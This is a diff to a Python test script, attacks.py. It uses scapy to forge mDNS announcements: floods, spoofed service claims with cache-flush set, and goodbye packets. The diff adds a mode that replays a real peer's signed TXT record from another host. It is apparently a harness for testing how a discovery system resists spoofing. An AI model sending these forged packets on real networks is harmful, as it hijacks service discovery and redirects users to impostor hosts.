@@ -12,6 +12,8 @@ the root network namespace, whose eth0 may be a shared network.
         GAP seconds apart, claiming service NAME on HOST:PORT with TXT
         info=INFO and HOST's address SRC4/SRC6 (cache-flush set, as a real
         responder would)
+  attacks.py replay  NAME HOST PORT COUNT GAP SRC4 SRC6 TXT...   like chimera,
+        with the TXT strings given (e.g. a real peer's signed TXT, copied)
   attacks.py goodbye NAME COUNT SRC4 SRC6   COUNT goodbyes (PTR TTL 0) for NAME
 
 Prints one line "<mode> <count>" when done.
@@ -63,11 +65,12 @@ def chain(rrs):
     return out
 
 
-def service(name, host, port, info, ttl):
+def service(name, host, port, info, ttl, txt=None):
     full = name + "." + TYPE
     return [DNSRR(rrname=TYPE, type="PTR", ttl=ttl, rdata=full),
             DNSRRSRV(rrname=full, rclass=FLUSH, ttl=ttl, priority=0, weight=0, port=port, target=host),
-            DNSRR(rrname=full, type="TXT", rclass=FLUSH, ttl=ttl, rdata=[b"info=" + info.encode()])]
+            DNSRR(rrname=full, type="TXT", rclass=FLUSH, ttl=ttl,
+                  rdata=txt if txt is not None else [b"info=" + info.encode()])]
 
 
 def flood(prefix, count, ttl, src4, src6=None):
@@ -91,8 +94,8 @@ def flood(prefix, count, ttl, src4, src6=None):
     print("flood", count, flush=True)
 
 
-def chimera(name, host, port, info, count, gap, src4, src6):
-    rrs = service(name, host, port, info, 120)
+def chimera(name, host, port, info, count, gap, src4, src6, txt=None, mode="chimera"):
+    rrs = service(name, host, port, info, 120, txt)
     rrs += [DNSRR(rrname=host, type="A", rclass=FLUSH, ttl=120, rdata=src4),
             DNSRR(rrname=host, type="AAAA", rclass=FLUSH, ttl=120, rdata=src6)]
     dns = DNS(id=0, qr=1, aa=1, qd=None, an=chain(rrs))
@@ -100,7 +103,7 @@ def chimera(name, host, port, info, count, gap, src4, src6):
         sendp([frame4(src4, dns), frame6(src6, dns)], iface=IFACE)
         if i < count - 1:
             time.sleep(gap)
-    print("chimera", count, flush=True)
+    print(mode, count, flush=True)
 
 
 def goodbye(name, count, src4, src6):
@@ -119,6 +122,9 @@ def main(argv):
             flood(argv[2], int(argv[3]), int(argv[4]), argv[5], argv[6] if len(argv) > 6 else None)
         elif mode == "chimera":
             chimera(argv[2], argv[3], int(argv[4]), argv[5], int(argv[6]), float(argv[7]), argv[8], argv[9])
+        elif mode == "replay":
+            chimera(argv[2], argv[3], int(argv[4]), "", int(argv[5]), float(argv[6]), argv[7], argv[8],
+                    [t.encode() for t in argv[9:]], "replay")
         elif mode == "goodbye":
             goodbye(argv[2], int(argv[3]), argv[4], argv[5])
         else:
